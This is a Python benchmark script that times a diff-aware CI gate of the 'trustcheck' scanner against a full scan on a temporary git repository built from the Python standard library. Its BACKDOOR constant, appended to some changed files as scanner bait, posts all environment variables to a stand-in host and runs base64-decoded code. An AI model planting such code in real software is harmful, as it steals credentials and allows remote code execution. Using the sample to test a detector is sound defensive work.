"""How much faster the diff-aware gate is than a full scan on a large repository.

Copies the Python standard library into a temporary git repository (one commit on `main`), makes a
pull-request branch that edits N files (default 20: a backdoor appended to some, a line changed in
the others), then times, as fresh processes:

    trustcheck ci --base main --format json        (the gate: only what the change touches)
    trustcheck scan . --format json                (everything)

Usage: .venv/bin/python benchmarks/ci_gate.py [--files 20] [--repeat 3] [--limit 0]
The last line is a key=value summary: ci_seconds=.. full_scan_seconds=.. ratio=..
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import statistics
import subprocess
import sys
import sysconfig
import tempfile
import time
from pathlib import Path

BACKDOOR = '''

def _telemetry_sync(payload):
    import base64
    import os
    import requests
    requests.post("https://collector.example/t", data=dict(os.environ))
    exec(base64.b64decode(payload))
'''


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "bench", "GIT_AUTHOR_EMAIL": "bench@example.invalid",
           "GIT_COMMITTER_NAME": "bench", "GIT_COMMITTER_EMAIL": "bench@example.invalid"}
    return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True).stdout


def build_repo(root: Path, limit: int) -> list[Path]:
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(p for p in stdlib.rglob("*.py") if "site-packages" not in p.parts)
    if limit:
        files = files[:limit]
    for src in files:
        dst = root / "lib" / src.relative_to(stdlib)
        dst.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(src, dst)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "stdlib")
    return [root / "lib" / f.relative_to(stdlib) for f in files]


def make_change(root: Path, files: list[Path], count: int) -> None:
    git(root, "checkout", "-q", "-b", "pr")
    step = max(1, len(files) // count)
    for i, path in enumerate(files[::step][:count]):
        text = path.read_text(encoding="utf-8", errors="replace")
        if i % 4 == 0:
            text += BACKDOOR
        else:
            lines = text.splitlines(keepends=True)
            mid = len(lines) // 2
            lines.insert(mid, "# reviewed by the benchmark\n")
            text = "".join(lines)
        path.write_text(text, encoding="utf-8")
    git(root, "commit", "-q", "-am", "pr: touch files")


def timed(cmd: list[str], cwd: Path) -> tuple[float, float, dict]:
    """(wall seconds, CPU seconds of the process and its workers, JSON report). CPU time is the
    steadier figure on a shared machine."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    started = time.perf_counter()
    proc = subprocess.run(cmd, check=False, cwd=cwd, capture_output=True, text=True)
    seconds = time.perf_counter() - started
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    try:  # exit 2 with a report is fine here: a few stdlib files are not UTF-8 (error entries)
        return seconds, cpu, json.loads(proc.stdout)
    except json.JSONDecodeError:
        sys.exit(f"{' '.join(cmd)} failed ({proc.returncode}): {proc.stderr[-2000:]}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=20, help="files the pull request changes")
    parser.add_argument("--repeat", type=int, default=3, help="runs of the gate (median reported)")
    parser.add_argument("--limit", type=int, default=0, help="copy only the first N stdlib files (0: all)")
    args = parser.parse_args()
    exe = str(Path(sys.executable).with_name("trustcheck"))
    with tempfile.TemporaryDirectory(prefix="trustcheck-ci-bench-") as tmp:
        root = Path(tmp)
        files = build_repo(root, args.limit)
        make_change(root, files, args.files)
        ci_times, ci_cpu = [], []
        for _ in range(args.repeat):
            seconds, cpu, ci_report = timed([exe, "ci", "--base", "main", "--format", "json", "--no-baseline"], root)
            ci_times.append(seconds)
            ci_cpu.append(cpu)
        full_seconds, full_cpu, full_report = timed([exe, "scan", ".", "--format", "json"], root)
    ci_seconds, ci_cpu_seconds = statistics.median(ci_times), statistics.median(ci_cpu)
    stats = ci_report.get("stats", {})
    print(f"repository: {len(files)} stdlib files; change: {args.files} files; load average {os.getloadavg()[0]:.1f}")
    print(f"trustcheck ci:   {ci_seconds:.2f}s wall, {ci_cpu_seconds:.2f}s CPU (median of {args.repeat}; wall "
          f"{', '.join(f'{t:.2f}' for t in ci_times)}), {len(ci_report['findings'])} findings on changed lines, "
          f"{stats.get('scanned_files')} files scanned")
    print(f"trustcheck scan: {full_seconds:.2f}s wall, {full_cpu:.2f}s CPU, {len(full_report['findings'])} findings in "
          f"{full_report.get('stats', {}).get('files')} files ({len(full_report.get('errors', []))} not scannable)")
    print(f"repo_files={len(files)} changed_files={args.files} ci_seconds={ci_seconds:.2f} "
          f"full_scan_seconds={full_seconds:.2f} ratio={full_seconds / ci_seconds:.1f} "
          f"ci_cpu_seconds={ci_cpu_seconds:.2f} full_scan_cpu_seconds={full_cpu:.2f} "
          f"cpu_ratio={full_cpu / ci_cpu_seconds:.1f} "
          f"ci_findings={len(ci_report['findings'])} full_findings={len(full_report['findings'])}")

if __name__ == "__main__":
    main()
